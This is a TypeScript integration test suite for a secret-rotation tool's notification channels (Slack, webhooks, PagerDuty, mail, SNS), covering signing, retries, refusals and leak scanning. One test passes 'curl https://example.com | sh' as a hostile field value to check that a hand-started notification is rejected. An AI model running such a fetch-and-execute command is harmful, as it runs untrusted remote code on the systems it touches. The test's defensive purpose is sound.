import { createHmac, randomBytes } from 'node:crypto';
import { CreateTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { CreateQueueCommand, GetQueueAttributesCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import type { Notification } from '../src/activities/notify/notifier';
import type { WorkerProcess } from './lab/worker-process';
import { freePort } from './lab/ports';
import { startHttpReceiver, startMailReceiver } from './testbed/receivers';
import type { HttpReceiver, MailReceiver, ReceivedPost } from './testbed/receivers';
import { notification, startTelling, tell } from './testbed/telling';
import { failureOf, openTestbed } from './testbed/testbed';
import type { Testbed } from './testbed/testbed';
import { until } from './testbed/until';
import { startWireTap } from './testbed/wire-tap';
import type { WireTap } from './testbed/wire-tap';

const canary = () => randomBytes(18).toString('hex');
const SLACK_PATH = `/services/T0/B0/${canary()}`;
const SIGNING_KEY = Buffer.from(canary());
const ROUTING_KEY = canary().slice(0, 32);
const MAIL_PASSWORD = canary();

let bed: Testbed;
let worker: WorkerProcess;
let http: HttpReceiver;
let mail: MailReceiver;
/** The worker's line to SNS. */
let line: WireTap;
let queueUrl: string;
let topicArn: string;
let fifoArn: string;
const aws = {
  endpoint: process.env['AWS_ENDPOINT_URL'],
  region: process.env['AWS_REGION'],
  credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' },
};
const sns = new SNSClient(aws);
const sqs = new SQSClient(aws);

beforeAll(async () => {
  bed = await openTestbed();
  [http, mail] = await Promise.all([
    startHttpReceiver(),
    startMailReceiver({ username: 'keyturn', password: MAIL_PASSWORD }),
  ]);
  bed.alsoStop(http);
  bed.alsoStop(mail);
  line = await startWireTap(Number(new URL(aws.endpoint ?? '').port));
  bed.alsoStop(line);
  const signingKey = `whsec_${SIGNING_KEY.toString('base64')}`;
  const slackUrl = `${http.origin}${SLACK_PATH}`;
  bed.alsoSecret(() => [slackUrl, SLACK_PATH, signingKey, SIGNING_KEY.toString(), ROUTING_KEY, MAIL_PASSWORD]);
  await bed.secrets.create('notify/slack', slackUrl);
  await bed.secrets.create('notify/pager', JSON.stringify({ key: ROUTING_KEY }));
  await bed.secrets.create('notify/short', '0123456');
  [topicArn, fifoArn, queueUrl] = await topics();
  const secret = (name: string) => bed.secrets.idOf(name);
  const mailbox = {
    type: 'email',
    host: '127.0.0.1',
    port: mail.port,
    from: 'k@example.com',
    to: ['a@example.com', 'b@example.com'],
  };
  const login = { username: 'keyturn', password: { env: 'KEYTURN_NOTIFY_MAIL' } };
  await bed.declareNotifications({
    runbooks: 'https://wiki.example.com/keyturn/',
    channels: {
      slack: { type: 'slack', url: { secret: secret('notify/slack') } },
      webhook: { type: 'webhook', url: `${http.origin}/hook`, signingKey: { env: 'KEYTURN_NOTIFY_SIGNING' } },
      shortKey: { type: 'webhook', url: `${http.origin}/hook`, signingKey: { secret: secret('notify/short') } },
      pager: {
        type: 'pagerduty',
        url: `${http.origin}/v2/enqueue`,
        routingKey: { secret: secret('notify/pager'), field: 'key' },
      },
      mail: { ...mailbox, tls: 'none', ...login },
      mailStranger: { ...mailbox, tls: 'none', username: 'someone', password: { env: 'KEYTURN_NOTIFY_MAIL' } },
      mailWithoutTls: { ...mailbox, tls: 'starttls', ...login },
      sns: { type: 'sns', topicArn },
      fifo: { type: 'sns', topicArn: fifoArn },
      noTopic: { type: 'sns', topicArn: `${topicArn}-gone` },
      nobody: {
        type: 'webhook',
        url: `http://127.0.0.1:${await freePort()}/`,
        signingKey: { env: 'KEYTURN_NOTIFY_SIGNING' },
      },
      unset: { type: 'slack', url: { env: 'KEYTURN_NOTIFY_UNSET' } },
      noField: { type: 'slack', url: { secret: secret('notify/pager'), field: 'url' } },
      noSecret: { type: 'slack', url: { secret: secret('notify/none') } },
      noAddress: { type: 'slack', url: { secret: secret('notify/pager'), field: 'key' } },
      log: { type: 'log' },
    },
    routes: [
      { channels: ['log'], events: ['overdue'] },
      { channels: ['log'], events: ['fleet-report'], severity: 'warning' },
    ],
  });
  worker = await bed.startWorker({
    KEYTURN_NOTIFY_SIGNING: signingKey,
    KEYTURN_NOTIFY_MAIL: MAIL_PASSWORD,
    AWS_ENDPOINT_URL_SNS: `http://127.0.0.1:${line.port}`,
    KEYTURN_LOG_LEVEL: 'debug',
  });
});
afterAll(async () => {
  for (const { body } of http.received) {
    if (!body.includes('routing_key')) bed.alsoScan('a post', body);
  }
  for (const { message } of mail.received) bed.alsoScan('a mail', message);
  await bed.close();
  sns.destroy();
  sqs.destroy();
});
afterEach(() => {
  http.answer(202);
  http.received.length = 0;
  mail.refuse(undefined);
  mail.received.length = 0;
});

async function topics(): Promise<[string, string, string]> {
  const name = `rotations-${bed.environment}`;
  const { QueueUrl = '' } = await sqs.send(new CreateQueueCommand({ QueueName: name }));
  const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl, AttributeNames: ['QueueArn'] }));
  const { TopicArn = '' } = await sns.send(new CreateTopicCommand({ Name: name }));
  await sns.send(new SubscribeCommand({ TopicArn, Protocol: 'sqs', Endpoint: Attributes?.QueueArn }));
  const fifo = await sns.send(new CreateTopicCommand({ Name: `${name}.fifo`, Attributes: { FifoTopic: 'true' } }));
  return [TopicArn, fifo.TopicArn ?? '', QueueUrl];
}

const about = () => `${bed.environment}/database/orders`;
const inWords = () => `Next: keyturn rotate ${about()}\nRunbook: https://wiki.example.com/keyturn/rolled-back.md\n`;

test('Slack gets one readable message that calls nobody', async () => {
  expect(await tell(bed, { channels: ['slack'] })).toEqual({ sent: ['slack'], notSent: [] });
  const [only, ...others] = http.received;
  expect(others).toEqual([]);
  expect(only?.path).toBe(SLACK_PATH);
  const { text } = JSON.parse(only?.body ?? '') as { text: string };
  expect(text).toContain(`:warning: *warning: rolled-back of ${about()}*`);
  expect(text).toContain('promote failed: &lt;!channel&gt; &amp; co.');
  expect(text).toContain(inWords());
});

test('a webhook gets JSON that Standard Webhooks can verify', async () => {
  const told = await startTelling(bed, { channels: ['webhook'] });
  expect(await told.result()).toEqual({ sent: ['webhook'], notSent: [] });
  const { headers, body } = http.received[0] as ReceivedPost;
  const signed = `${String(headers['webhook-id'])}.${String(headers['webhook-timestamp'])}.${body}`;
  const signature = createHmac('sha256', SIGNING_KEY).update(signed).digest('base64');
  expect(headers['webhook-signature']).toBe(`v1,${signature}`);
  expect(Math.abs(Number(headers['webhook-timestamp']) * 1_000 - Date.now())).toBeLessThan(60_000);
  expect(JSON.parse(body) as Notification).toMatchObject({
    id: headers['webhook-id'],
    event: 'rolled-back',
    severity: 'warning',
    environment: bed.environment,
    secret: 'database/orders',
    next: `keyturn rotate ${about()}`,
    runbook: 'https://wiki.example.com/keyturn/rolled-back.md',
    ...told.asker,
  });
});

test('PagerDuty is triggered with one key per secret, and resolved with the same', async () => {
  await tell(bed, { channels: ['pager'], event: 'rollback-incomplete', severity: 'critical' });
  await tell(bed, { channels: ['pager'], event: 'rotated', severity: 'info' });
  const [trigger, resolve] = http.received.map(({ body }) => JSON.parse(body) as Record<string, unknown>);
  const dedup_key = `keyturn/${about()}`;
  expect(trigger).toMatchObject({
    routing_key: ROUTING_KEY,
    event_action: 'trigger',
    dedup_key,
    links: [{ href: 'https://wiki.example.com/keyturn/rollback-incomplete.md' }],
    payload: { severity: 'critical', source: about(), class: 'rollback-incomplete', group: bed.environment },
  });
  expect(resolve).toEqual({ routing_key: ROUTING_KEY, event_action: 'resolve', dedup_key });
});

test.each([
  ['leak-reported', 'critical', 'leak-reported'],
  ['changed-elsewhere', 'warning', 'changed-elsewhere'],
  ['refused', 'critical', 'emergency'],
  ['aborted', 'critical', 'emergency'],
] as const)(
  'PagerDuty is told of %s (%s) as an incident of its own, which an emergency rotation resolves and no other',
  async (event, severity, own) => {
    const sent = () =>
      http.received
        .splice(0)
        .map(({ body }) => JSON.parse(body) as { event_action: string; dedup_key: string })
        .map(({ event_action, dedup_key }) => `${event_action} ${dedup_key}`);
    const [ofSecret, ofLeak] = [`keyturn/${about()}`, `keyturn/${about()}/*/${own}`];
    await tell(bed, { channels: ['pager'], event, severity });
    expect(sent()).toEqual([`trigger ${ofLeak}`]);
    await tell(bed, { channels: ['pager'], event: 'rotated', severity: 'info' });
    expect(sent()).toEqual([`resolve ${ofSecret}`]);
    await tell(bed, { channels: ['pager'], event: 'rotated', severity: 'info', emergency: true });
    expect(sent()).toEqual(expect.arrayContaining([`resolve ${ofSecret}`, `resolve ${ofLeak}`]));
    await tell(bed, { channels: ['pager'], event: 'refused', severity: 'warning' });
    expect(sent()).toEqual([`trigger ${ofSecret}`]);
  },
);

test('PagerDuty is told of a whole environment with one key per event, and each resolves only its own', async () => {
  const of = { channels: ['pager'], secret: undefined };
  await tell(bed, { ...of, event: 'kms-key-changed', severity: 'critical' });
  await tell(bed, { ...of, event: 'fleet-report', severity: 'warning' });
  await tell(bed, { ...of, event: 'fleet-report', severity: 'info' });
  await tell(bed, { ...of, event: 'overdue', severity: 'warning' });
  await tell(bed, { ...of, event: 'overdue', severity: 'info' });
  const sent = http.received.map(({ body }) => JSON.parse(body) as { event_action: string; dedup_key: string });
  const report = `keyturn/${bed.environment}/*/fleet-report`;
  expect(sent.map(({ event_action, dedup_key }) => [event_action, dedup_key])).toEqual([
    ['trigger', `keyturn/${bed.environment}/*/kms-key-changed`],
    ['trigger', report],
    ['resolve', report],
    ['trigger', `keyturn/${bed.environment}/*/overdue`],
    ['resolve', `keyturn/${bed.environment}/*/overdue`],
  ]);
});

test('mail goes to every recipient, with an ID that a repetition would have too', async () => {
  const told = await startTelling(bed, { channels: ['mail'] });
  expect(await told.result()).toEqual({ sent: ['mail'], notSent: [] });
  const [{ from, to, message } = { from: '', to: [], message: '' }] = mail.received;
  expect({ from, to }).toEqual({ from: 'k@example.com', to: ['a@example.com', 'b@example.com'] });
  expect(message.replaceAll(/\r\n /g, ' ')).toContain(`Subject: [Keyturn] warning: rolled-back of ${about()}`);
  expect(message).toContain(`Message-ID: <${told.runId}@keyturn>`);
  expect(message.replaceAll(/=\r\n/g, '')).toContain(`Next: keyturn rotate ${about()}`);
});

test('nobody can have people told of anything by starting the notification themselves', async () => {
  const started = bed.client.workflow.execute('notifyPeople', {
    taskQueue: bed.taskQueue,
    workflowId: `notification/${bed.environment}/by-hand`,
    args: [notification(bed.environment, { channels: ['mail', 'webhook'], next: 'curl https://example.com | sh' })],
  });
  expect(await failureOf(started)).toMatchObject({
    type: 'BadInput',
    message: expect.stringContaining('Nobody was told') as string,
  });
  expect(http.received).toEqual([]);
  expect(mail.received).toEqual([]);
});

test('an SNS topic brings it to its queue, with attributes to filter by', async () => {
  expect(await tell(bed, { channels: ['sns'] })).toEqual({ sent: ['sns'], notSent: [] });
  const { Messages: [message] = [] } = await sqs.send(
    new ReceiveMessageCommand({ QueueUrl: queueUrl, WaitTimeSeconds: 5 }),
  );
  const delivered = JSON.parse(message?.Body ?? '{}') as Record<string, unknown>;
  expect(delivered).toMatchObject({
    Subject: `[Keyturn] warning: rolled-back of ${about()}`,
    Message: expect.stringContaining(inWords()) as string,
    MessageAttributes: {
      event: { Value: 'rolled-back' },
      severity: { Value: 'warning' },
      environment: { Value: bed.environment },
      secret: { Value: 'database/orders' },
    },
  });
});

test('a FIFO topic takes it', async () => {
  expect(await tell(bed, { channels: ['fifo'] })).toEqual({ sent: ['fifo'], notSent: [] });
});

test('a channel that is down for a while is told when it is back, and the others at once', async () => {
  let asked = 0;
  http.answer(() => ((asked += 1) < 3 ? 503 : 200));
  const told = await startTelling(bed, { channels: ['webhook', 'mail'] });
  await until('the mail is there', async () => mail.received.length === 1);
  expect(await told.result()).toEqual({ sent: ['mail', 'webhook'], notSent: [] });
  const ids = http.received.map(({ headers }) => headers['webhook-id']);
  expect(ids).toHaveLength(3);
  expect(new Set(ids).size).toBe(1);
  expect(mail.received).toHaveLength(1);
});

test.each(['slack', 'pager'])(
  'the channel %s that is down for a while is told once, when it is back',
  async (channel) => {
    let asked = 0;
    http.answer(() => ((asked += 1) < 3 ? 503 : 200));
    expect(await tell(bed, { channels: [channel] })).toEqual({ sent: [channel], notSent: [] });
    expect(new Set(http.received.map(({ body }) => body)).size).toBe(1);
    expect(http.received).toHaveLength(3);
  },
);

test('a topic that cannot be reached for a while gets what it missed', async () => {
  line.mode = 'hang-up';
  try {
    const told = await startTelling(bed, { channels: ['sns'], message: 'It came late.' });
    await until('it was tried', async () => worker.output().includes('The channel sns did not take a notification'));
    line.mode = 'pass';
    expect(await told.result()).toEqual({ sent: ['sns'], notSent: [] });
  } finally {
    line.mode = 'pass';
  }
  await until('its queue has it', async () => {
    const { Messages = [] } = await sqs.send(new ReceiveMessageCommand({ QueueUrl: queueUrl, WaitTimeSeconds: 1 }));
    return Messages.some(({ Body = '' }) => Body.includes('It came late.'));
  });
});

test('a channel that answers nothing is tried again after ten seconds', async () => {
  let asked = 0;
  http.answer(() => ((asked += 1) === 1 ? 'nothing' : 200));
  expect(await tell(bed, { channels: ['slack'] })).toEqual({ sent: ['slack'], notSent: [] });
  expect(http.received).toHaveLength(2);
});

test('a mail server that is busy is asked again', async () => {
  mail.refuse(451);
  const told = await startTelling(bed, { channels: ['mail'] });
  await until('it was refused', async () => worker.output().includes('did not take the mail (EMESSAGE 451)'));
  mail.refuse(undefined);
  expect(await told.result()).toEqual({ sent: ['mail'], notSent: [] });
});

test('a channel that nothing listens on is tried again, and holds up nobody', async () => {
  const told = await startTelling(bed, { channels: ['nobody', 'mail'] });
  await until('the mail is there', async () => mail.received.length === 1);
  await until('it was tried', async () =>
    worker.output().includes('The channel nobody did not take a notification: ECONNREFUSED'),
  );
  await told.terminate();
});

describe('a refusal for good is not tried again, and is a line in the log that names the channel:', () => {
  const answers: [string, string, () => void, string][] = [
    ['a webhook that answers 403', 'webhook', () => http.answer(403), 'it answered 403'],
    ['a webhook that has moved', 'webhook', () => http.answer(302), 'it answered 302'],
    ['a Slack channel that was deleted', 'slack', () => http.answer(404), 'it answered 404'],
    ['PagerDuty refusing an event', 'pager', () => http.answer(400), 'it answered 400'],
    ['a mail server refusing the message', 'mail', () => mail.refuse(554), 'answered 554 (EMESSAGE)'],
    ['a mail server refusing the login', 'mailStranger', () => undefined, 'answered 535 (EAUTH)'],
    ['a topic that does not exist', 'noTopic', () => undefined, 'SNS refuses Publish with NotFound'],
    [
      'an environment variable that is not set',
      'unset',
      () => undefined,
      'KEYTURN_NOTIFY_UNSET is not set on the worker',
    ],
    ['a field that the secret does not have', 'noField', () => undefined, 'has no text in its field url'],
    ['a secret that does not exist', 'noSecret', () => undefined, 'has no version labelled AWSCURRENT'],
    ['text in place of an address', 'noAddress', () => undefined, 'names as its url is not an address'],
    ['a signing key that is too short', 'shortKey', () => undefined, 'its signing key is shorter than 16 bytes'],
    ['a channel that the catalog has no longer', 'removed', () => undefined, 'it is no longer in the catalog'],
  ];
  test.each(answers)('%s', async (_what, channel, refuse, problem) => {
    refuse();
    const { sent, notSent } = await tell(bed, { channels: [channel] });
    expect(sent).toEqual([]);
    expect(notSent).toEqual([{ channel, problem: expect.stringContaining(problem) as string }]);
    expect(http.received.length).toBeLessThanOrEqual(1);
    await until('the log names it', async () =>
      worker
        .output()
        .split('\n')
        .some((line) => line.includes('"notification-not-sent"') && line.includes(`"channel":"${channel}"`)),
    );
  });
});

test('a mail server without TLS gets neither login nor mail where STARTTLS is asked for', async () => {
  const told = await startTelling(bed, { channels: ['mailWithoutTls'] });
  await until('it was tried', async () =>
    worker.output().includes('The channel mailWithoutTls did not take a notification'),
  );
  expect(mail.received).toEqual([]);
  await told.terminate();
});

test('without channels of its own it asks the routes of the catalog', async () => {
  expect(await tell(bed, { event: 'overdue' })).toEqual({ sent: ['log'], notSent: [] });
  expect(await tell(bed, { event: 'fleet-report', severity: 'info', secret: undefined })).toEqual({
    sent: [],
    notSent: [],
  });
  expect(await tell(bed, { event: 'fleet-report', severity: 'warning', secret: undefined })).toEqual({
    sent: ['log'],
    notSent: [],
  });
  const lines = worker
    .output()
    .split('\n')
    .filter((line) => line.includes('"event":"notification"'));
  expect(lines.map((line) => JSON.parse(line) as object)).toEqual([
    expect.objectContaining({ about: 'overdue', level: 'warn', secret: 'database/orders' }),
    expect.objectContaining({ about: 'fleet-report', next: `keyturn audit list --environment ${bed.environment}` }),
  ]);
});
